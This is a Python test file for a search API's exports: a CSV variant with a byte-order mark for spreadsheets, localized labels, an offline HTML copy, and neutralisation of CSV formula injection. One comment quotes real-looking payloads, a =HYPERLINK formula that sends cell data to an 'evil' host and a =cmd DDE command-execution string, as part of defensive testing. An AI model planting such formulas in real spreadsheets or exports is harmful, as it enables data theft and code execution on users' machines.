"""Exports people open: CSV with a byte-order mark for spreadsheets and labels in the reader's
language; the offline HTML copy lists its records without JavaScript."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from cli.main import main
from search_api import i18n
from tests.search_api.conftest import TestClient


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_for_spreadsheets_starts_with_a_bom_and_reads_back(client: TestClient) -> None:
    plain = client.get("/api/export", params={"format": "csv", "country": "SN"})
    excel = client.get("/api/export", params={"format": "csv", "country": "SN", "bom": "1"})
    assert not plain.content.startswith(b"\xef\xbb\xbf")
    assert excel.content.startswith(b"\xef\xbb\xbf")
    assert excel.content[3:] == plain.content  # the same rows after the mark
    # what a spreadsheet does: decode with utf-8-sig, accents intact
    rows = _rows(excel.content.decode("utf-8-sig"))
    assert next(iter(rows[0])) == "id" and len(rows) == len(_rows(plain.text))
    # the mark is a CSV option only
    jsonl = client.get("/api/export", params={"format": "jsonl", "country": "SN", "bom": "1"})
    assert not jsonl.content.startswith(b"\xef\xbb\xbf")


def test_csv_labels_types_and_topics_in_the_readers_language(client: TestClient) -> None:
    codes = _rows(client.get("/api/export", params={"format": "csv", "labels": "codes"}).text)
    by_id = {r["id"]: r for r in codes}
    with_topics = [r for r in codes if r["concepts"]]
    assert with_topics and all(r["concepts"].startswith("http") for r in with_topics)
    vocab = client.app.state.ctx.vocabulary  # type: ignore[attr-defined]
    for lang in ("en", "fr", "es"):
        named = _rows(client.get("/api/export", params={"format": "csv", "lang": lang}).text)
        assert len(named) == len(codes)
        for row in named:
            stored = by_id[row["id"]]
            assert row["type"] == i18n.type_label(stored["type"], lang)
            uris = [u for u in stored["concepts"].split(" | ") if u]
            assert row["concepts"].split(" | ") == [vocab.label(u, lang) for u in uris] or not uris
            assert "http" not in row["concepts"]
            assert row["countries"] == stored["countries"]  # ISO codes stay codes
    fr = _rows(client.get("/api/export", params={"format": "csv"},
                          headers={"Accept-Language": "fr-FR,fr;q=0.9"}).text)  # fmt: skip
    projects = [r for r in fr if by_id[r["id"]]["type"] == "project"]
    assert projects and all(r["type"] == "Projet" for r in projects)
    assert client.get("/api/export", params={"format": "csv", "labels": "x"}).status_code == 400


def test_the_search_page_offers_the_spreadsheet_csv(client: TestClient) -> None:
    page = client.get("/", params={"q": "mercure", "lang": "fr"}).text
    links = [html.unescape(h) for h in re.findall(r'href="(/api/export\?[^"]+)"', page)]
    excel = [h for h in links if "bom=1" in h]
    assert excel and "lang=fr" in excel[0] and "q=mercure" in excel[0]
    assert "CSV pour tableur (Excel)" in page
    assert client.get(excel[0]).content.startswith(b"\xef\xbb\xbf")


def test_offline_copy_lists_every_record_without_javascript(web_ctx: Any, tmp_path: Any) -> None:
    out = tmp_path / "offline.html"
    args = ["--config", str(web_ctx.settings.path), "export", "--format", "html", "--lang", "es",
            "--country", "SN", "--out", str(out)]  # fmt: skip
    assert main(args) == 0
    text = out.read_text(encoding="utf-8")
    data = json.loads(
        re.search(r'<script type="application/json" id="data">(.*?)</script>', text, re.S)[1]
    )
    # with scripts removed, what a browser without JavaScript shows
    static = re.sub(r"<script.*?</script>", "", text, flags=re.S)
    items = re.findall(r'<li class="rec"[^>]*>(.*?)</li>', static, re.S)
    assert len(items) == len(data) > 0
    for item, record in zip(items, data, strict=True):
        assert html.escape(record["t"], quote=False) in item or html.escape(record["t"]) in item
        assert i18n.type_label(record["ty"], "es") in item
    assert "Senegal" in static  # country names in the page's language
    assert (
        '<form class="filters"' in static
        and "hidden" in static.split('<form class="filters"')[1][:80]
    )
    assert i18n.translator("es")("offline_noscript") in static
    # found from outside: the header named the query only, never the filters
    header = static.split("</header>")[0]
    assert "País: Senegal" in header


def test_the_offline_copys_header_names_its_filters(web_ctx: Any, tmp_path: Any) -> None:
    out = tmp_path / "offline.html"
    args = ["--config", str(web_ctx.settings.path), "export", "--format", "html", "--lang", "fr",
            "--type", "project", "--year-from", "2015", "--out", str(out)]  # fmt: skip
    assert main(args) == 0
    header = html.unescape(out.read_text(encoding="utf-8").split("</header>")[0])
    assert "Type de fiche\u00a0: Projet" in header and "De l'année\u00a0: 2015" in header


_FORMULA = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "＝", ""]).flatmap(
    lambda start: st.text(max_size=40).map(lambda rest: start + rest)
)


@settings(max_examples=300, deadline=None)
@given(title=_FORMULA, publisher=_FORMULA, subject=_FORMULA)
def test_no_csv_cell_starts_a_spreadsheet_formula(title: str, publisher: str, subject: str) -> None:
    # found from outside: harvested titles such as =HYPERLINK("http://evil/?"&A1,"click") and
    # =cmd|' /C calc'!A0 were written as they came into the "CSV for spreadsheets" export
    from search_api.exports import CSV_COLUMNS, FORMULA_STARTS, stream_csv

    record = {"id": "n:1", "title": {"en": title}, "publisher": publisher, "subjects": [subject]}
    text = "".join(stream_csv([record], bom=True))
    header, cells = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert header == list(CSV_COLUMNS)
    row = dict(zip(CSV_COLUMNS, cells, strict=True))
    for column, given_value in (("title", title), ("publisher", publisher), ("subjects", subject)):
        cell = row[column]
        assert not cell.startswith(FORMULA_STARTS), (column, cell)
        # what a spreadsheet shows: the text as harvested (the apostrophe is not shown)
        assert cell == given_value or cell == "'" + given_value


def test_the_run_errors_csv_neutralises_harvested_values() -> None:
    from search_api.operators import _csv_lines

    run = {"id": 7, "node_id": "n"}
    errors = [{"source_id": "=1+1", "stage": "map", "value": "@SUM(A1)", "message": "bad"}]
    rows = list(csv.reader(io.StringIO("".join(_csv_lines(run, errors)))))
    assert rows[1][2] == "'=1+1" and rows[1][6] == "'@SUM(A1)"
